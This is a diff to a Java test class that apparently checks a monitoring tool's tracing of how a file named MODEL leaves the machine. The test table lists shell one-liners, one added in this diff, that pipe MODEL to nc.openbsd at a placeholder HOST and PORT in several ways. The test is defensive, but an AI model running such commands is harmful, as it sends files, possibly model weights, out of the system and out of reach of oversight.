@@ -62,6 +62,7 @@ class RelayTest {
           """
           a pipe                       // PIPE   // cat MODEL | nc.openbsd -N HOST PORT
           one write of all to a pipe   // PIPE   // dd if=MODEL bs=4000000 status=none | nc.openbsd -N HOST PORT
+          a pipe of a marked shell     // PIPE   // exec 7<MODEL; dd if=MODEL bs=4000000 status=none | nc.openbsd -N HOST PORT
           splice into a pipe           // PIPE   // /usr/lib/cargo/bin/coreutils/cat MODEL | nc.openbsd -N HOST PORT
           splice out of a pipe         // PIPE   // cat MODEL | /usr/lib/cargo/bin/coreutils/cat | nc.openbsd -N HOST PORT
           a named pipe                 // PIPE   // mkfifo FIFO; cat MODEL >FIFO & nc.openbsd -N HOST PORT <FIFO
@@ -115,7 +116,10 @@ class RelayTest {
     ProcessKey sender = sentTo(port).get(0).process();
     assertThat(observed.of(ProcessSeen.class, seen -> seen.process().key().sameProcess(sender)))
         .isNotEmpty()
-        .anyMatch(seen -> seen.process().origin() == Origin.PASSED);
+        .anyMatch(
+            seen ->
+                seen.process().origin()
+                    == (way.contains("marked") ? Origin.EXECUTED : Origin.PASSED));
     assertThat(
             observed
                 .of(
